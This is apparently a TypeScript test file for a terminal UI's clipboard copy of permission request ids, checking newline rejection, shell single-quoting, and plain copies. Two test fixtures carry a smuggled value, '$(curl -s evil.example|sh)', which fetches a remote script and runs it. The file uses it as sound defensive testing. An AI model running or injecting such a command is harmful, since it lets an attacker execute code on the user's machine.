// Hostile input V, "the clipboard gets nothing a shell would run": `y` on a
// request whose id holds a newline copies nothing and says so in words; an
// id holding `$(` is copied single-quoted for a shell, and the footer says
// so; a plain id is copied as it is. The pure rule every OSC 52 follows:
// test/ui-units/clipboard-text.test.ts.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { permissionFrom, renderApp } from '../support/ui.js';

const copies = (writes: string[]) => writes.filter((w) => w.includes(']52;'));
const decoded = (osc: string) => Buffer.from(/]52;c;([^\u0007]*)\u0007/.exec(osc)?.[1] ?? '', 'base64').toString();

test('y on an id with a newline: nothing copied, said in words', async (t) => {
  const id = '01ABC\n$(curl -s evil.example|sh)\n';
  const h = await renderApp({ events: [permissionFrom('codex', 's1', 'git push', { id })] });
  t.after(h.unmount);
  await h.press('y');
  assert.deepEqual(copies(h.writes), [], 'no OSC 52 written');
  assert.match(h.frame(), /Nothing copied: the id holds a control character/);
});

test('y on an id with $( copies it single-quoted for a shell, and the footer says so', async (t) => {
  const id = "01ABC $(curl -s evil.example|sh) it's";
  const h = await renderApp({ events: [permissionFrom('codex', 's1', 'git push', { id })] });
  t.after(h.unmount);
  await h.press('y');
  const written = copies(h.writes);
  assert.equal(written.length, 1);
  assert.equal(decoded(written[0]!), "'01ABC $(curl -s evil.example|sh) it'\\''s'");
  assert.match(h.frame(), /single-quoted for a shell/);
});

test('a plain id is copied as it is', async (t) => {
  const id = '01HZX3K9QF2M8V7R6T5Y4W3E2D:a-b_c.d';
  const h = await renderApp({ events: [permissionFrom('codex', 's1', 'git push', { id })] });
  t.after(h.unmount);
  await h.press('y');
  assert.deepEqual(copies(h.writes).map(decoded), [id]);
  assert.ok(!/single-quoted/.test(h.frame()));
});
